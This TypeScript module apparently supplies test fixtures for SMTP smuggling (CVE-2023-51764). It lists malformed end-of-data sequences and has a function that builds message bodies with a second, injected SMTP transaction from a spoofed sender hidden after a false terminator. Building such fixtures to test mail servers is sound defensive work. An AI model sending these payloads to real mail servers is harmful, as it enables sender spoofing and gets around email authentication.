/** What clients send to end a body for one server and not for another (CVE-2023-51764 and its kin). */

export const SMUGGLED_SENDER = "smuggled@evil.example";

/** None of these is CRLF "." CRLF; only that ends a body, RFC 5321 §4.1.1.4. */
export const FALSE_ENDS: readonly string[] = [
  "\n.\n",
  "\r.\r",
  "\r.\n",
  "\n.\r",
  "\n.\r\n",
  "\r.\r\n",
  "\r\n.\n",
  "\r\n.\r",
  "\r\n\0.\r\n",
  "\r\n.\0\r\n",
  "\r\n.\r\r\n",
  "\r\r\n.\r\r\n",
];

/** Those in which no CR before a CRLF makes it look whole to a sloppy reader. */
export const PLAIN_FALSE_ENDS: readonly string[] = FALSE_ENDS.filter((end) => !end.startsWith("\r\r"));

export interface Smuggling {
  /** Octets after DATA, up to and with the real end. */
  readonly text: string;
  /** Where the false end begins and ends. */
  readonly from: number;
  readonly to: number;
  readonly hasNul: boolean;
  /** The body that a server stores that makes bare newlines whole; the same for every server behind it. */
  readonly normalised: string;
}

/** A body whose second half is a transaction of its own for whoever takes `falseEnd` for the end. */
export function smuggling(falseEnd: string, recipient: string): Smuggling {
  const head = "From: load@sender.example\r\nSubject: outer\r\n\r\nouter";
  const inner = `MAIL FROM:<${SMUGGLED_SENDER}>\r\nRCPT TO:<${recipient}>\r\nDATA\r\nSubject: inner\r\n\r\ninner\r\n`;
  const body = head + falseEnd + inner;
  const unstuffed = body.replace(/(^|\r\n)\./g, "$1");
  return {
    text: `${body}.\r\n`,
    from: head.length,
    to: head.length + falseEnd.length,
    hasNul: falseEnd.includes("\0"),
    normalised: unstuffed.replace(/\r\n|\r|\n/g, "\r\n"),
  };
}
